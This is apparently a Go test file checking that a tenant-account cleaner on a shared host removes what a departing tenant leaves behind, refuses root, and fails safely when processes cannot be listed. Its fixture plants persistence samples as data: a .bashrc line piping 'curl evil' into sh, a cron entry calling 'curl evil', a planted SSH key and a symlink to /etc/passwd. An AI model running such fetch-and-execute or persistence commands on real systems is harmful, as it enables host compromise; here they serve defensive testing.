package cleaning

import (
	"context"
	"os"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/nodus-dev/nodus/pkg/agent/sessions"
)

// scratch is a host tree for one account: its home with what a tenant
// leaves, a skeleton, spools and a temporary directory.
type scratch struct {
	root, home string
	uid        int
	cleaner    *Cleaner
}

func newScratch(t *testing.T) *scratch {
	t.Helper()
	root := t.TempDir()
	s := &scratch{root: root, home: filepath.Join(root, "home", "tenant")}
	for _, dir := range []string{"skel/.config", "cron", "at", "linger", "tmp", "tmp/.X11-unix", "proc", "home/tenant/.ssh", "home/tenant/work",
		"mail", "crash", "coredump"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(path, content string, mode os.FileMode) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(root, path), []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("skel/.bashrc", "# skel\n", 0o644)
	write("skel/.config/app", "default\n", 0o600)
	write("home/tenant/.ssh/authorized_keys", "ssh-ed25519 AAAA planted\n", 0o600)
	write("home/tenant/work/secret", "tenant data\n", 0o644)
	write("home/tenant/.bashrc", "curl evil | sh\n", 0o644)
	write("cron/tenant", "* * * * * curl evil\n", 0o600)
	write("at/a0001", "job\n", 0o600)
	write("linger/tenant", "", 0o644)
	write("tmp/leftover", "tenant data\n", 0o644)
	// A shared directory of root's, as systemd-tmpfiles makes them.
	write("tmp/.X11-unix/tenant-left", "tenant data\n", 0o644)
	write("tmp/.X11-unix/X0", "root's\n", 0o644)
	if err := os.Symlink("/etc/passwd", filepath.Join(s.home, "link")); err != nil {
		t.Fatal(err)
	}
	// As root (CI) the tenant is an unprivileged uid of its own, as on a host.
	uid := os.Getuid()
	if uid == 0 {
		uid = 4242
	}
	runtimeDir := filepath.Join("run", strconv.Itoa(uid))
	if err := os.MkdirAll(filepath.Join(root, runtimeDir, "gnupg"), 0o700); err != nil {
		t.Fatal(err)
	}
	write(filepath.Join(runtimeDir, "gnupg", "S.gpg-agent"), "tenant's\n", 0o600)
	write(filepath.Join(runtimeDir, "bus"), "tenant's\n", 0o600)
	if os.Getuid() == 0 {
		for _, owned := range []string{"at/a0001", "tmp/leftover", "tmp/.X11-unix/tenant-left", runtimeDir} {
			if err := os.Lchown(filepath.Join(root, owned), uid, uid); err != nil {
				t.Fatal(err)
			}
		}
	}
	s.uid = uid
	me := strconv.Itoa(uid)
	// A mailbox, apport's report of a crashed program (the user's), and
	// systemd-coredump's dumps (root's, the uid in their names).
	bootID := strings.Repeat("0a", 16)
	write("mail/tenant", "From: cron\nthe tenant's mail\n", 0o600)
	write("crash/_usr_bin_python3."+me+".crash", "the tenant's process memory\n", 0o640)
	write("coredump/core.python3."+me+"."+bootID+".4711.1733380000000000.zst", "the tenant's process memory\n", 0o640)
	write("coredump/core.my.app."+me+"."+bootID+".4712.1733380000000000", "the tenant's process memory\n", 0o640)
	write("coredump/core.python3.1"+me+"."+bootID+".4713.1733380000000000.zst", "another uid's\n", 0o640)
	// /var/crash is world-writable on Ubuntu: a directory the tenant made
	// there survived the cleaning, which removed files only.
	if err := os.MkdirAll(filepath.Join(root, "crash/kept"), 0o755); err != nil {
		t.Fatal(err)
	}
	write("crash/kept/loot", "the tenant's\n", 0o644)
	if os.Getuid() == 0 {
		for _, owned := range []string{"crash/_usr_bin_python3." + me + ".crash", "crash/kept", "crash/kept/loot"} {
			if err := os.Lchown(filepath.Join(root, owned), uid, uid); err != nil {
				t.Fatal(err)
			}
		}
	}
	s.cleaner = &Cleaner{
		Procs: sessions.Procs{Root: filepath.Join(root, "proc")}, Grace: time.Second,
		Paths: Paths{Skel: filepath.Join(root, "skel"), CronSpools: []string{filepath.Join(root, "cron")},
			AtSpools: []string{filepath.Join(root, "at")}, LingerDir: filepath.Join(root, "linger"), TempDirs: []string{filepath.Join(root, "tmp")},
			RuntimeDirs: filepath.Join(root, "run"), MailSpools: []string{filepath.Join(root, "mail")},
			CrashDirs: []string{filepath.Join(root, "crash"), filepath.Join(root, "coredump")}},
		Lookup: func(name string) (*user.User, error) {
			if name != "tenant" {
				return nil, user.UnknownUserError(name)
			}
			return &user.User{Username: name, Uid: me, Gid: me, HomeDir: s.home}, nil
		},
	}
	return s
}

func (s *scratch) exists(path string) bool {
	_, err := os.Lstat(filepath.Join(s.root, path))
	return err == nil
}

func TestResetAccountLeavesOnlyTheSkeleton(t *testing.T) {
	s := newScratch(t)
	r := s.cleaner.Clean(context.Background(), 1, []string{"tenant", "nobody-here"}, nil)
	if r.Err != nil {
		t.Fatalf("clean: %v (steps %v)", r.Err, r.Steps)
	}
	runtimeDir := filepath.Join("run", strconv.Itoa(s.uid))
	me, bootID := strconv.Itoa(s.uid), strings.Repeat("0a", 16)
	for _, gone := range []string{"home/tenant/.ssh", "home/tenant/work", "home/tenant/link", "cron/tenant", "at/a0001", "linger/tenant", "tmp/leftover",
		"tmp/.X11-unix/tenant-left", filepath.Join(runtimeDir, "gnupg"), filepath.Join(runtimeDir, "bus"), "mail/tenant",
		"coredump/core.python3." + me + "." + bootID + ".4711.1733380000000000.zst", "coredump/core.my.app." + me + "." + bootID + ".4712.1733380000000000"} {
		if s.exists(gone) {
			t.Errorf("%s survived the cleaning", gone)
		}
	}
	if os.Getuid() == 0 && s.exists("crash/_usr_bin_python3."+me+".crash") {
		t.Error("the tenant's crash report survived the cleaning")
	}
	if os.Getuid() == 0 && s.exists("crash/kept") {
		t.Error("a directory the tenant made among the crash reports survived the cleaning")
	}
	if !s.exists("coredump/core.python3.1" + me + "." + bootID + ".4713.1733380000000000.zst") {
		t.Error("another uid's core dump was removed")
	}
	if !s.exists(runtimeDir) {
		t.Error("the runtime directory itself was removed (logind mounts it)")
	}
	if os.Getuid() == 0 && !s.exists("tmp/.X11-unix/X0") {
		t.Error("a file of root's in a shared directory was removed")
	}
	if _, err := os.Stat("/etc/passwd"); err != nil {
		t.Errorf("the symlink's target was touched: %v", err)
	}
	got, err := os.ReadFile(filepath.Join(s.home, ".bashrc"))
	if err != nil || string(got) != "# skel\n" {
		t.Errorf(".bashrc is %q (%v), want the skeleton's", got, err)
	}
	if info, err := os.Stat(filepath.Join(s.home, ".config", "app")); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("skeleton file mode: %v %v", info, err)
	}
	for _, path := range []string{s.home, filepath.Join(s.home, ".bashrc"), filepath.Join(s.home, ".config")} {
		var st syscall.Stat_t
		if err := syscall.Lstat(path, &st); err != nil || int(st.Uid) != s.uid || int(st.Gid) != s.uid {
			t.Errorf("%s is owned by %d:%d, want %d (%v)", path, st.Uid, st.Gid, s.uid, err)
		}
	}
	if info, err := os.Stat(s.home); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("home mode: %v %v", info, err)
	}
	if !strings.Contains(strings.Join(r.Steps, "\n"), "no account nobody-here") {
		t.Errorf("steps do not say the unknown account had nothing: %v", r.Steps)
	}
}

// TestACleaningThatCannotListTheProcessesFails: the host's processes cannot
// be read (/proc not mounted, no file descriptor left). The cleaning read
// that as none, reported "ended every process of tenant" and succeeded:
// the node went to the next tenant with the last one's processes unchecked
// (those under its subordinate uids are reached by nothing else).
func TestACleaningThatCannotListTheProcessesFails(t *testing.T) {
	s := newScratch(t)
	s.cleaner.Procs.Root = filepath.Join(s.root, "not-mounted")
	s.cleaner.Grace = 10 * time.Millisecond
	r := s.cleaner.Clean(context.Background(), 1, []string{"tenant"}, nil)
	if r.Err == nil || !strings.Contains(r.Err.Error(), "cannot be shown ended") {
		t.Errorf("the cleaning: %v, want it failed on the processes it cannot list", r.Err)
	}
	if slices.ContainsFunc(r.Steps, func(step string) bool { return strings.HasPrefix(step, "ended every process") }) {
		t.Errorf("the steps claim the processes ended: %v", r.Steps)
	}
	if !s.exists("home/tenant/work") {
		t.Error("the home was reset while the tenant's processes may still run in it")
	}

	// The processes can be read again: the cleaning asked again passes.
	s.cleaner.Procs.Root = filepath.Join(s.root, "proc")
	if r := s.cleaner.Clean(context.Background(), 2, []string{"tenant"}, nil); r.Err != nil {
		t.Errorf("the cleaning with the processes readable: %v", r.Err)
	}
}

func TestRefusesRoot(t *testing.T) {
	c := &Cleaner{Lookup: func(string) (*user.User, error) {
		return &user.User{Username: "root", Uid: "0", Gid: "0", HomeDir: "/root"}, nil
	}}
	if _, err := c.ResetAccount(context.Background(), "root"); err == nil || !strings.Contains(err.Error(), "uid 0") {
		t.Errorf("resetting root: %v", err)
	}
	c.Lookup = func(string) (*user.User, error) {
		return &user.User{Username: "svc", Uid: "999", Gid: "999", HomeDir: "/"}, nil
	}
	if _, err := c.ResetAccount(context.Background(), "svc"); err == nil || !strings.Contains(err.Error(), "not a directory of its own") {
		t.Errorf("resetting an account whose home is /: %v", err)
	}
}

func TestCleanCommand(t *testing.T) {
	run := func(command string, timeout time.Duration) Report {
		c := &Cleaner{Command: command, CommandTimeout: timeout}
		return c.Clean(context.Background(), 7, []string{}, nil)
	}
	ok := run(`echo "request $NODUS_CLEAN_REQUEST"`, time.Minute)
	if ok.Err != nil || ok.CommandExitCode == nil || *ok.CommandExitCode != 0 || !strings.Contains(ok.CommandOutput, "request 7") {
		t.Errorf("a good command: %+v", ok)
	}
	failed := run("echo wiping; exit 3", time.Minute)
	if failed.Err == nil || *failed.CommandExitCode != 3 || !strings.Contains(failed.CommandOutput, "wiping") {
		t.Errorf("a failing command: %+v", failed)
	}
	start := time.Now()
	hung := run("sleep 60", 500*time.Millisecond)
	if hung.Err == nil || !strings.Contains(hung.Err.Error(), "did not finish") || time.Since(start) > 10*time.Second {
		t.Errorf("a hanging command: %+v after %s", hung, time.Since(start))
	}
	long := run(`i=0; while [ $i -lt 2000 ]; do echo "line $i"; i=$((i+1)); done`, time.Minute)
	if len(long.CommandOutput) > MaxOutput || !strings.HasSuffix(long.CommandOutput, "line 1999\n") {
		t.Errorf("output tail: %d bytes ending %q", len(long.CommandOutput), long.CommandOutput[len(long.CommandOutput)-20:])
	}
}
